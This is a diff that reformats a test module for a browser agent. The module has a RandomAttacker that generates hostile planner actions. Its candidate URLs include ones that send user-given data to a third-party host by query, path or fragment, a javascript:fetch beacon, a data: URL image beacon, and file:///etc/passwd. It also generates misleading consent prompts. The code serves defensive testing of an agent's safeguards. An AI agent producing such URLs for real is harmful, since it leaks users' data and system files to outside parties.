@@ -10,8 +10,21 @@ from typing import Any, cast
 from urllib.parse import quote
 
 from agent.browser.page import Control, PageMap
-from agent.planner.base import Action, Ask, AskKind, Attach, ButtonKind, Choose, Click, Done, Fill, GiveUp, Open, Tick
-from agent.planner.base import View
+from agent.planner.base import (
+    Action,
+    Ask,
+    AskKind,
+    Attach,
+    ButtonKind,
+    Choose,
+    Click,
+    Done,
+    Fill,
+    GiveUp,
+    Open,
+    Tick,
+    View,
+)
 from agent.protocol import FactKind, Given, Source, SourceKind
 from tests.attackers.canaries import INVENTED
 
@@ -145,7 +158,8 @@ class RandomAttacker:
         host = third.split("//")[1]
         return self._chance.choice([
             f"{third}/?d={said}", f"{third}/{said}", f"{third}/#{said}", f"http://{said}@{host}/",
-            f"http://{said[:30]}.localhost:{host.split(':')[1]}/", f"{own}/?d={said}", f"{own}/{said}", f"{own}/#{said}",
+            f"http://{said[:30]}.localhost:{host.split(':')[1]}/", f"{own}/?d={said}", f"{own}/{said}",
+            f"{own}/#{said}",
             f"data:text/html,<img src='{third}/?{said}'>", f"javascript:fetch('{third}/?{said}')",
             "file:///etc/passwd", f"file://{self._paths[0]}", "chrome://settings", f"view-source:{third}/?{said}",
             "blob:null/x", "about:blank", f"//{host}/?{said}", f"http://127.0.0.1:9/{said}", third + "/partner",
@@ -159,8 +173,8 @@ class RandomAttacker:
                         ("yes", "no"), chance.choice([None, FactKind("given-name")]))]
         key = chance.choice([f"site {self._third}", "reading", "/#given", f"/{self._third}", "k1", "k1", ""])
         return [Ask(key, chance.choice(list(AskKind)),
-                    chance.choice(["Which is your council?", "Say yes to go on.", "I declare that all this is true", "?",
-                                   f"The task led to another site: {self._third}. May it go on there?", ""]),
+                    chance.choice(["Which is your council?", "Say yes to go on.", "I declare that all this is true",
+                                   "?", f"The task led to another site: {self._third}. May it go on there?", ""]),
                     chance.choice([("yes", "no"), (), ("A", "B"), ("yes",)]),
                     chance.choice([None, FactKind("given-name"), FactKind("no-such-kind")]))
                 for _ in range(chance.randint(1, 2))]
